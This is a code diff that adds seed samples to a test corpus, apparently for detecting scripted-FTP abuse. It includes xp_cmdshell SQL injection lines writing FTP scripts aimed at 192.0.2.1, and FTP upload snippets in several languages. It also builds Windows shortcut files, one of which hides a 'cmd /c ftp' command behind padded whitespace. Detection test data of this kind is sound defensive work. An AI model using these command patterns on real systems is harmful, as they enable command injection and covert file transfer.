@@ -157,3 +157,46 @@ UNIX = [
 for number, text in enumerate(UNIX):
     for flags in (0, 1):
         seed("unix_ftp", f"{number}-{flags}", bytes([flags]) + text.encode())
+SOURCES = [
+    (12, "exec master..xp_cmdshell 'echo open 192.0.2.1>f';exec master..xp_cmdshell 'ftp -s:f'"),
+    (0, '#include <stdio.h>\n#define H "192.0.2.1"\nint main(){FILE *f=fopen("f","w");fprintf(f,"open %s\\n",H);system("ftp -s:f");}'),
+    (1, 'class A { void m() { PrintWriter w = new PrintWriter("f"); w.println("open h"); Runtime.getRuntime().exec("ftp -s:f"); } }'),
+    (2, 'using System;\nFile.WriteAllText(@"f", $"open {h}"); Process.Start("ftp.exe", "-s:f");'),
+    (6, "import os\nwith open('f','w') as f:\n    f.write('open %s\\n' % 'h')\nos.system('ftp -s:f')\n"),
+    (7, 'open(F, ">f");\nprint F <<EOT;\nopen h\nEOT\nsystem "ftp -s:f";\n'),
+    (8, "<?php file_put_contents('f', \"open $h\"); exec('ftp -s:f'); ?>"),
+    (10, "begin AssignFile(F,'f'); Writeln(F,'open h'#13#10); WinExec('ftp -s:f', 0); end."),
+    (11, 'FileWriteLine("f", "open " & $h)\nRunWait(@ComSpec & " /c ftp -s:f")\n'),
+    (13, '{"a": "cmd.exe /c echo open h\\u003ef"}\n{"a": "ftp -s:f"}'),
+    (14, "<Task><Actions><Exec><Command>ftp</Command><Arguments>-s:&quot;f&quot;</Arguments></Exec></Actions></Task>"),
+    (15, 'REGEDIT4\n[K]\n"a"="ftp -s:f"\n"b"=hex(2):66,74,70,\\\n  20,2d\n'),
+    (16, "[InternetShortcut]\nURL=ftp://u:p@192.0.2.1/x\n"),
+    (17, "GET /a?id=1;exec+xp_cmdshell+'echo+open+h>f'-- 200\n"),
+]
+for number, (choice, content) in enumerate(SOURCES):
+    seed("literals", f"{number}", bytes([choice]) + content.encode())
+PROGRAMS_OF_LIBRARIES = [
+    (0, "import ftplib\nf = ftplib.FTP('192.0.2.1', 'u', 'p')\nf.storbinary('STOR a', open('b', 'rb'))\nf.quit()\n"),
+    (1, "use Net::FTP;\nmy $f = Net::FTP->new('192.0.2.1', Port => 2121);\n$f->login('u', 'p');\n$f->put('a');\n"),
+    (2, "<?php $c = ftp_connect('192.0.2.1'); ftp_login($c, 'u', 'p'); ftp_put($c, 'r', 'l', FTP_ASCII); ?>"),
+    (3, "require 'net/ftp'\nNet::FTP.open('192.0.2.1') do |f|\n  f.login 'u', 'p'\n  f.get 'a'\nend\n"),
+    (4, 'FTPClient c = new FTPClient(); c.connect("192.0.2.1"); c.login("u", "p"); c.storeFile("r", new FileInputStream("l"));'),
+    (5, 'var w = new WebClient(); w.Credentials = new NetworkCredential("u", "p"); w.UploadFile("ftp://192.0.2.1/r", "l");'),
+    (6, 'c = InternetConnect(h, "192.0.2.1", 21, "u", "p", INTERNET_SERVICE_FTP, 0, 0); FtpPutFile(c, "l", "r", 2, 0);'),
+]
+for number, (choice, content) in enumerate(PROGRAMS_OF_LIBRARIES):
+    seed("library", f"{number}", bytes([choice]) + content.encode())
+
+
+def counted(text):
+    return struct.pack("<H", len(text)) + text.encode("utf-16-le")
+
+
+head = bytes.fromhex("4c0000000114020000000000c000000000000046")
+environment = struct.pack("<II", 0x314, 0xA0000001) + b"%COMSPEC%".ljust(260, b"\0") + "%COMSPEC%".encode("utf-16-le").ljust(520, b"\0")
+for number, (flags, body) in enumerate([
+    (0x80 | 0x8 | 0x10 | 0x20, counted("..\\ftp.exe") + counted("C:\\w") + counted("-s:x.txt")),
+    (0x80 | 0x20 | 0x200, counted(" " * 300 + "/c ftp -s:x") + environment),
+    (0x80 | 0x2 | 0x20, struct.pack("<7I", 38, 28, 1, 0, 28, 0, 37) + b"C:\\f.exe\0\0" + counted("-s:x")),
+]):
+    seed("shortcut", f"{number}", (head + struct.pack("<I", flags)).ljust(76, b"\0") + body + bytes(4))
